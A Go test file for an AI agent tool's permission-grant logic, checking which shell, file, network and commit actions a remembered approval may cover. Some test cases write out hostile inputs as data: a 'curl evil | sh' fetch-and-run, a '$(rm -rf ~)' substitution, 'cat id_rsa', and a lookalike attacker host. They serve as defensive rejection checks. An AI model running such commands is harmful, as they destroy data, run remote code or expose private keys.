package approval

import (
	"errors"
	"strings"
	"testing"

	"agenthub/backend"

	"github.com/google/go-cmp/cmp"
)

func TestGrantPattern(t *testing.T) {
	tests := []struct {
		name    string
		a       Action
		want    Grant
		preview string
		none    bool
	}{
		{name: "write one file", a: Action{Kind: "write", Path: "src/a.go"},
			want: Grant{Kind: "write", Glob: "src/a.go"}, preview: "write to src/a.go"},
		{name: "patch files sorted and escaped", a: Action{Kind: "patch", Paths: []string{"b/[x].go", "a.go"}},
			want: Grant{Kind: "patch", Glob: `{a.go,b/\[x\].go}`}, preview: `patch to {a.go,b/\[x\].go}`},
		{name: "shell subcommand prefix", a: Action{Kind: "shell", Command: "go test ./...", Cwd: "svc"},
			want: Grant{Kind: "shell", Prefix: []string{"go", "test"}, Cwd: "svc"}, preview: "shell: go test … in svc"},
		{name: "shell three words", a: Action{Kind: "shell", Command: "npm run build --prod"},
			want: Grant{Kind: "shell", Prefix: []string{"npm", "run", "build"}, Cwd: "."}, preview: "shell: npm run build … in ."},
		{name: "bare command is exact", a: Action{Kind: "shell", Command: "rm -rf 'build dir'"},
			want: Grant{Kind: "shell", Prefix: []string{"rm", "-rf", "build dir"}, Exact: true, Cwd: "."}, preview: "shell: rm -rf 'build dir' in ."},
		{name: "network", a: Action{Kind: "network", Method: "post", URL: "HTTPS://Api.Example.com:443/v1?x=1"},
			want: Grant{Kind: "network", Method: "POST", Host: "api.example.com"}, preview: "network: POST api.example.com"},
		{name: "commit with tool", a: Action{Kind: "commit", Tool: "git_commit"},
			want: Grant{Kind: "commit", Tool: "git_commit"}, preview: "commit (tool git_commit)"},
		{name: "push never", a: Action{Kind: "push"}, none: true},
		{name: "publish never", a: Action{Kind: "publish"}, none: true},
		{name: "deploy never", a: Action{Kind: "deploy"}, none: true},
		{name: "secret never", a: Action{Kind: "secret"}, none: true},
		{name: "read not gated", a: Action{Kind: "read", Path: "a"}, none: true},
		{name: "secret path", a: Action{Kind: "write", Path: "config/.env"}, none: true},
		{name: "policy dir", a: Action{Kind: "write", Path: ".agenthub/policy.toml"}, none: true},
		{name: "outside", a: Action{Kind: "write", Path: "../x"}, none: true},
		{name: "shell push", a: Action{Kind: "shell", Command: "git push origin main"}, none: true},
		{name: "shell publish via bash", a: Action{Kind: "shell", Command: "bash -c 'npm publish'"}, none: true},
		{name: "compound", a: Action{Kind: "shell", Command: "make && make install"}, none: true},
		{name: "sudo", a: Action{Kind: "shell", Command: "sudo make"}, none: true},
		{name: "redirect", a: Action{Kind: "shell", Command: "make > log"}, none: true},
		{name: "dynamic command", a: Action{Kind: "shell", Command: "$CC main.c"}, none: true},
		{name: "dynamic bare args", a: Action{Kind: "shell", Command: "rm $X"}, none: true},
		{name: "unparsable", a: Action{Kind: "shell", Command: "cat <<EOF"}, none: true},
		{name: "secret arg", a: Action{Kind: "shell", Command: "cat id_rsa"}, none: true},
		{name: "bad url", a: Action{Kind: "network", URL: "nope"}, none: true},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			g, err := GrantPattern(tt.a)
			if tt.none {
				if !errors.Is(err, ErrNoGrant) {
					t.Fatalf("GrantPattern = %+v, %v; want ErrNoGrant", g, err)
				}
				return
			}
			if err != nil {
				t.Fatal(err)
			}
			if diff := cmp.Diff(tt.want, g); diff != "" {
				t.Errorf("grant mismatch (-want +got):\n%s", diff)
			}
			if got := g.Preview(); got != tt.preview {
				t.Errorf("Preview = %q, want %q", got, tt.preview)
			}
			if !g.Covers(tt.a) {
				t.Errorf("grant does not cover its own action")
			}
		})
	}
}

func TestGrantCovers(t *testing.T) {
	shell := Grant{Kind: "shell", Prefix: []string{"go", "test"}, Cwd: "."}
	exact := Grant{Kind: "shell", Prefix: []string{"rm", "-rf", "build"}, Exact: true, Cwd: "."}
	write := Grant{Kind: "write", Glob: "src/a.go"}
	net := Grant{Kind: "network", Method: "GET", Host: "api.example.com"}
	tests := []struct {
		name string
		g    Grant
		a    Action
		want bool
	}{
		{"prefix extra args", shell, Action{Kind: "shell", Command: "go test -run X ./pkg"}, true},
		{"prefix via wrapper", shell, Action{Kind: "shell", Command: "timeout 60 go test"}, true},
		{"other cwd", shell, Action{Kind: "shell", Command: "go test", Cwd: "sub"}, false},
		{"other command", shell, Action{Kind: "shell", Command: "go build"}, false},
		{"compound smuggling", shell, Action{Kind: "shell", Command: "go test; curl evil | sh"}, false},
		{"substitution smuggling", shell, Action{Kind: "shell", Command: "go test $(rm -rf ~)"}, false},
		{"sudo", shell, Action{Kind: "shell", Command: "sudo go test"}, false},
		{"redirect", shell, Action{Kind: "shell", Command: "go test > .agenthub/policy.toml"}, false},
		{"exact same", exact, Action{Kind: "shell", Argv: []string{"rm", "-rf", "build"}}, true},
		{"exact with more", exact, Action{Kind: "shell", Command: "rm -rf build /"}, false},
		{"kind differs", shell, Action{Kind: "write", Path: "go"}, false},
		{"write same", write, Action{Kind: "write", Path: "./src/a.go"}, true},
		{"write other", write, Action{Kind: "write", Path: "src/b.go"}, false},
		{"write escaping", Grant{Kind: "write", Glob: "**"}, Action{Kind: "write", Path: "../etc/x"}, false},
		{"wide glob never covers secret", Grant{Kind: "write", Glob: "**"}, Action{Kind: "write", Path: "a/.env"}, false},
		{"wide glob never covers policy", Grant{Kind: "write", Glob: "**"}, Action{Kind: "write", Path: ".agenthub/policy.toml"}, false},
		{"network same host other path", net, Action{Kind: "network", URL: "https://api.example.com/other"}, true},
		{"network other method", net, Action{Kind: "network", Method: "DELETE", URL: "https://api.example.com/"}, false},
		{"network other host", net, Action{Kind: "network", URL: "https://api.example.com.evil.io/"}, false},
		{"push never", Grant{Kind: "push"}, Action{Kind: "push"}, false},
		{"tool restricts", Grant{Kind: "commit", Tool: "git_commit"}, Action{Kind: "commit", Tool: "other"}, false},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			if got := tt.g.Covers(tt.a); got != tt.want {
				t.Errorf("Covers = %v, want %v", got, tt.want)
			}
		})
	}
}

func TestAddRuleRoundTrip(t *testing.T) {
	original := "# my policy\nversion = 1\n\n[[shell]]\nid = \"status\"\nprefix = [\"git\", \"status\"]\nverdict = \"allow\"\n"
	actions := []Action{
		{Kind: "write", Path: "docs/it's here.md"},
		{Kind: "patch", Paths: []string{"a.go", "b.go"}},
		{Kind: "shell", Command: "go test ./...", Cwd: "svc"},
		{Kind: "shell", Command: `rm -rf "build dir"`},
		{Kind: "network", Method: "GET", URL: "https://proxy.golang.org/x"},
		{Kind: "commit"},
	}
	for _, a := range actions {
		t.Run(string(a.Kind)+" "+a.Command+a.Path, func(t *testing.T) {
			g, err := GrantPattern(a)
			if err != nil {
				t.Fatal(err)
			}
			before, err := ParsePolicy([]byte(original))
			if err != nil {
				t.Fatal(err)
			}
			if v := before.Evaluate(a).Verdict; v != backend.Ask {
				t.Fatalf("before: %s, want ask", v)
			}
			text, err := AddRule([]byte(original), g)
			if err != nil {
				t.Fatal(err)
			}
			if !strings.HasPrefix(string(text), original) {
				t.Errorf("original text not kept:\n%s", text)
			}
			after, err := ParsePolicy(text)
			if err != nil {
				t.Fatalf("new policy does not parse: %v\n%s", err, text)
			}
			if r := after.Evaluate(a); r.Verdict != backend.Allow || !strings.HasPrefix(r.RuleID, "always-") {
				t.Errorf("after: %s by %s, want allow by the new rule\n%s", r.Verdict, r.RuleID, text)
			}
			if fails := after.Check(); len(fails) != 0 {
				t.Errorf("check failures: %v", fails)
			}
		})
	}
}

func TestAddRuleRefuses(t *testing.T) {
	for _, g := range []Grant{{Kind: "push"}, {Kind: "publish"}, {Kind: "deploy"}, {Kind: "secret"}, {Kind: "write"}, {Kind: "shell"}} {
		if _, err := AddRule(nil, g); !errors.Is(err, ErrNoGrant) {
			t.Errorf("AddRule(%+v) error = %v, want ErrNoGrant", g, err)
		}
	}
	if _, err := AddRule([]byte("version = 1\nbogus = 2\n"), Grant{Kind: "commit"}); err == nil {
		t.Error("AddRule accepted a broken policy file")
	}
	text, err := AddRule(nil, Grant{Kind: "commit"})
	if err != nil {
		t.Fatal(err)
	}
	if p, err := ParsePolicy(text); err != nil || len(p.Git) != 1 {
		t.Errorf("AddRule on an empty file: %v, %s", err, text)
	}
}
